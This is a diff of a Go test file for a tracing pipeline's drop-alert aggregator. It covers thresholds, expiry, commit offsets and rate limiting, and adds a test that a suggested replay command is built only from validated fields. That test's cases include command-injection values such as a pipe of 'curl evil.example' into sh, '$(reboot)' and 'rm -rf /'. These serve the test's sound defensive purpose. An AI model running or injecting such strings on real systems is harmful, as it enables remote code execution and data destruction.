@@ -1,9 +1,11 @@
-package dropalerts
+package alerting
 
 import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/spanpipe/spanpipe/dropalerts"
 )
 
 // The state machine takes the time as an argument: these tests move a fake clock and
@@ -11,16 +13,16 @@ import (
 
 var t0 = time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
 
-func testAlerterConfig() *AlerterConfig {
-	c := DefaultAlerterConfig()
+func testConfig() *Config {
+	c := DefaultConfig()
 	c.AlertmanagerURLs = []string{"http://am:9093"}
 	return &c
 }
 
 var dropsTP = topicPartition{"spanpipe.drops", 0}
 
-func ev(reason Reason, count int, mod ...func(*Event)) *Event {
-	e := &Event{Reason: reason, Signal: "tracing", Count: count, Component: "consumer", Sink: "duckdb",
+func ev(reason dropalerts.Reason, count int, mod ...func(*dropalerts.Event)) *dropalerts.Event {
+	e := &dropalerts.Event{Reason: reason, Signal: "tracing", Count: count, Component: "consumer", Sink: "duckdb",
 		FirstTime: t0, LastTime: t0, Instance: "spanpipe/h/1"}
 	for _, m := range mod {
 		m(e)
@@ -29,20 +31,20 @@ func ev(reason Reason, count int, mod ...func(*Event)) *Event {
 }
 
 func TestAggregatesByKeyIntoOneAlert(t *testing.T) {
-	a := newAggregator(testAlerterConfig(), 1)
-	a.ingest(t0, dropsTP, 0, ev(ReasonRetryExhausted, 3, func(e *Event) {
-		e.Source = &Source{Topic: "spanpipe.spans", Partition: 1, FirstOffset: 10, LastOffset: 12}
+	a := newAggregator(testConfig(), 1)
+	a.ingest(t0, dropsTP, 0, ev(dropalerts.ReasonRetryExhausted, 3, func(e *dropalerts.Event) {
+		e.Source = &dropalerts.Source{Topic: "spanpipe.spans", Partition: 1, FirstOffset: 10, LastOffset: 12}
 		e.SampleTraceIDs = []string{"t1", "t2"}
 		e.DeadLetterTopic, e.DeadLetters = "spanpipe.drops", 3
 		e.Error = "sink down"
 	}))
-	a.ingest(t0.Add(time.Second), dropsTP, 4, ev(ReasonRetryExhausted, 2, func(e *Event) {
-		e.Source = &Source{Topic: "spanpipe.spans", Partition: 1, FirstOffset: 20, LastOffset: 21}
+	a.ingest(t0.Add(time.Second), dropsTP, 4, ev(dropalerts.ReasonRetryExhausted, 2, func(e *dropalerts.Event) {
+		e.Source = &dropalerts.Source{Topic: "spanpipe.spans", Partition: 1, FirstOffset: 20, LastOffset: 21}
 		e.SampleTraceIDs = []string{"t2", "t3"}
 		e.DeadLetterTopic, e.DeadLetters = "spanpipe.drops", 2
 		e.LastTime = t0.Add(time.Second)
 	}))
-	a.ingest(t0.Add(time.Second), dropsTP, 5, ev(ReasonDecodeError, 1, func(e *Event) { e.Signal = "unknown" }))
+	a.ingest(t0.Add(time.Second), dropsTP, 5, ev(dropalerts.ReasonDecodeError, 1, func(e *dropalerts.Event) { e.Signal = "unknown" }))
 	a.evaluate(t0.Add(2 * time.Second))
 
 	views := a.snapshot()
@@ -81,11 +83,11 @@ func TestAggregatesByKeyIntoOneAlert(t *testing.T) {
 }
 
 func TestThresholdAndExpiry(t *testing.T) {
-	cfg := testAlerterConfig()
-	cfg.Thresholds = map[Reason]int{ReasonProducerBufferFull: 10}
+	cfg := testConfig()
+	cfg.Thresholds = map[dropalerts.Reason]int{dropalerts.ReasonProducerBufferFull: 10}
 	a := newAggregator(cfg, 1)
-	a.ingest(t0, dropsTP, 0, ev(ReasonProducerBufferFull, 4))
-	a.ingest(t0.Add(10*time.Second), dropsTP, 1, ev(ReasonProducerBufferFull, 5))
+	a.ingest(t0, dropsTP, 0, ev(dropalerts.ReasonProducerBufferFull, 4))
+	a.ingest(t0.Add(10*time.Second), dropsTP, 1, ev(dropalerts.ReasonProducerBufferFull, 5))
 	a.evaluate(t0.Add(20 * time.Second))
 	if a.openAlerts() != 0 {
 		t.Fatal("9 records opened an alert with threshold 10")
@@ -98,14 +100,14 @@ func TestThresholdAndExpiry(t *testing.T) {
 	if got := a.committable(a.parts[dropsTP]); got != 1 {
 		t.Fatalf("committable %d, want 1: an event that expired below the threshold needs no delivery", got)
 	}
-	a.ingest(t0.Add(62*time.Second), dropsTP, 2, ev(ReasonProducerBufferFull, 5))
+	a.ingest(t0.Add(62*time.Second), dropsTP, 2, ev(dropalerts.ReasonProducerBufferFull, 5))
 	a.evaluate(t0.Add(62 * time.Second))
 	if a.openAlerts() != 1 {
 		t.Fatal("10 records within the window did not open an alert")
 	}
 	// Everything expires without alerting: the key is forgotten and all is committable.
 	b := newAggregator(cfg, 1)
-	b.ingest(t0, dropsTP, 7, ev(ReasonProducerBufferFull, 1))
+	b.ingest(t0, dropsTP, 7, ev(dropalerts.ReasonProducerBufferFull, 1))
 	b.evaluate(t0.Add(2 * time.Minute))
 	if len(b.alerts) != 0 || b.committable(b.parts[dropsTP]) != 8 {
 		t.Fatalf("alerts %d, committable %d: want the key forgotten and offset 8", len(b.alerts), b.committable(b.parts[dropsTP]))
@@ -113,11 +115,11 @@ func TestThresholdAndExpiry(t *testing.T) {
 }
 
 func TestCommitWaitsForEveryReceiver(t *testing.T) {
-	a := newAggregator(testAlerterConfig(), 2)
+	a := newAggregator(testConfig(), 2)
 	for o := int64(0); o < 5; o++ {
 		a.observe(dropsTP, o) // dead letters
 	}
-	a.ingest(t0, dropsTP, 5, ev(ReasonRetryExhausted, 5))
+	a.ingest(t0, dropsTP, 5, ev(dropalerts.ReasonRetryExhausted, 5))
 	a.observe(dropsTP, 6)
 	ps := a.parts[dropsTP]
 	if got := a.committable(ps); got != 5 {
@@ -129,7 +131,7 @@ func TestCommitWaitsForEveryReceiver(t *testing.T) {
 	if got := a.committable(ps); got != 5 {
 		t.Fatalf("committable %d after one of two receivers, want 5", got)
 	}
-	a.ingest(t0.Add(time.Second), dropsTP, 7, ev(ReasonRetryExhausted, 1)) // after the snapshot
+	a.ingest(t0.Add(time.Second), dropsTP, 7, ev(dropalerts.ReasonRetryExhausted, 1)) // after the snapshot
 	a.ack(1, views)
 	if got := a.committable(ps); got != 7 {
 		t.Fatalf("committable %d, want 7: delivered up to offset 6, not the event read after the post", got)
@@ -150,13 +152,13 @@ func TestCommitWaitsForEveryReceiver(t *testing.T) {
 }
 
 func TestResolveAfterQuietPeriod(t *testing.T) {
-	cfg := testAlerterConfig()
+	cfg := testConfig()
 	cfg.Quiet = 5 * time.Minute
 	a := newAggregator(cfg, 1)
-	a.ingest(t0, dropsTP, 0, ev(ReasonSinkRejected, 1))
+	a.ingest(t0, dropsTP, 0, ev(dropalerts.ReasonSinkRejected, 1))
 	a.evaluate(t0)
 	a.ack(0, a.snapshot())
-	a.ingest(t0.Add(time.Minute), dropsTP, 1, ev(ReasonSinkRejected, 1))
+	a.ingest(t0.Add(time.Minute), dropsTP, 1, ev(dropalerts.ReasonSinkRejected, 1))
 	a.evaluate(t0.Add(5 * time.Minute)) // 4m after the last drop: still open
 	if a.openAlerts() != 1 {
 		t.Fatal("alert resolved before its quiet period")
@@ -171,7 +173,7 @@ func TestResolveAfterQuietPeriod(t *testing.T) {
 		t.Fatalf("views %+v: want one resolved alert ending at %v", views, resolvedAt)
 	}
 	// A drop before the resolve went out reopens the alert.
-	a.ingest(resolvedAt.Add(time.Second), dropsTP, 2, ev(ReasonSinkRejected, 1))
+	a.ingest(resolvedAt.Add(time.Second), dropsTP, 2, ev(dropalerts.ReasonSinkRejected, 1))
 	if v := a.snapshot(); v[0].resolved || !v[0].endsAt.IsZero() {
 		t.Fatalf("view %+v: want the alert firing again", v[0])
 	}
@@ -182,7 +184,7 @@ func TestResolveAfterQuietPeriod(t *testing.T) {
 	}
 	// A later drop is a new alert with a new start.
 	later := resolvedAt.Add(time.Hour)
-	a.ingest(later, dropsTP, 3, ev(ReasonSinkRejected, 1, func(e *Event) { e.FirstTime, e.LastTime = later, later }))
+	a.ingest(later, dropsTP, 3, ev(dropalerts.ReasonSinkRejected, 1, func(e *dropalerts.Event) { e.FirstTime, e.LastTime = later, later }))
 	a.evaluate(later)
 	if v := a.snapshot(); len(v) != 1 || !v[0].startsAt.Equal(later) || v[0].details.Records != 1 {
 		t.Fatalf("views %+v: want a fresh alert starting at %v with 1 record", v, later)
@@ -190,13 +192,13 @@ func TestResolveAfterQuietPeriod(t *testing.T) {
 }
 
 func TestKeysAreBounded(t *testing.T) {
-	cfg := testAlerterConfig()
+	cfg := testConfig()
 	cfg.MaxAlerts = 3
 	a := newAggregator(cfg, 1)
 	for i := range 10 {
-		a.ingest(t0, dropsTP, int64(i), ev(ReasonSinkRejected, 1, func(e *Event) { e.Sink = strings.Repeat("s", i+1) }))
+		a.ingest(t0, dropsTP, int64(i), ev(dropalerts.ReasonSinkRejected, 1, func(e *dropalerts.Event) { e.Sink = strings.Repeat("s", i+1) }))
 	}
-	a.ingest(t0, dropsTP, 10, ev(Reason(strings.Repeat("\xff", 300)), 1))
+	a.ingest(t0, dropsTP, 10, ev(dropalerts.Reason(strings.Repeat("\xff", 300)), 1))
 	if len(a.alerts) != 4 {
 		t.Fatalf("%d keys, want 3 plus the overflow key", len(a.alerts))
 	}
@@ -210,7 +212,7 @@ func TestKeysAreBounded(t *testing.T) {
 }
 
 func TestReceiverRateLimitAndBackoff(t *testing.T) {
-	cfg := testAlerterConfig()
+	cfg := testConfig()
 	cfg.MinSendInterval = 10 * time.Second
 	cfg.RetryInitialInterval, cfg.RetryMaxInterval = time.Second, 8*time.Second
 	r := &receiver{resend: true}
@@ -243,5 +245,46 @@ func TestReceiverRateLimitAndBackoff(t *testing.T) {
 	}
 	if w := r.failed(now, 30*time.Second, cfg); w != 30*time.Second {
 		t.Errorf("Retry-After 30s: wait %s", w)
+	}
+}
+
+// TestReplayCommandOnlyFromValidatedFields: the reason and topic of a drop event come
+// from whoever can write to the drop topic. A suggested command is built only from an
+// allow-listed reason and a legal topic name; otherwise the alert says there are dead
+// letters and suggests nothing a person could paste into a shell.
+func TestReplayCommandOnlyFromValidatedFields(t *testing.T) {
+	for _, tc := range []struct {
+		name          string
+		reason, topic string
+		want          string // "" means no replay command anywhere
+	}{
+		{"valid", "decode-error", "spanpipe.drops", "spanpipe replay --reason decode-error --deadletter-topic spanpipe.drops --since 2025-03-01T12:00:00Z --dry-run"},
+		{"topic with a command", "decode-error", "spanpipe.drops; curl evil.example | sh", ""},
+		{"topic with a substitution", "decode-error", "$(reboot)", ""},
+		{"topic with a newline", "decode-error", "drops\nrm -rf /", ""},
+		{"unknown reason", "x`id`", "spanpipe.drops", ""},
+		{"reason with blanks", "decode-error --to-topic evil", "spanpipe.drops", ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			a := newAggregator(testConfig(), 1)
+			a.ingest(t0, dropsTP, 0, ev(dropalerts.Reason(tc.reason), 1, func(e *dropalerts.Event) {
+				e.DeadLetterTopic, e.DeadLetters = tc.topic, 1
+			}))
+			a.evaluate(t0.Add(time.Second))
+			views := a.snapshot()
+			if len(views) != 1 {
+				t.Fatalf("%d alerts, want 1", len(views))
+			}
+			v := views[0]
+			if v.details.Replay != tc.want || v.annots["replay"] != tc.want {
+				t.Fatalf("replay %q, annotation %q, want %q", v.details.Replay, v.annots["replay"], tc.want)
+			}
+			if tc.want == "" && strings.Contains(v.annots["description"], "spanpipe replay") {
+				t.Fatalf("description suggests a command built from %q/%q:\n%s", tc.reason, tc.topic, v.annots["description"])
+			}
+			if !strings.Contains(v.annots["description"], "Dead letters: 1 on") {
+				t.Fatalf("description does not say there is a dead letter:\n%s", v.annots["description"])
+			}
+		})
 	}
 }
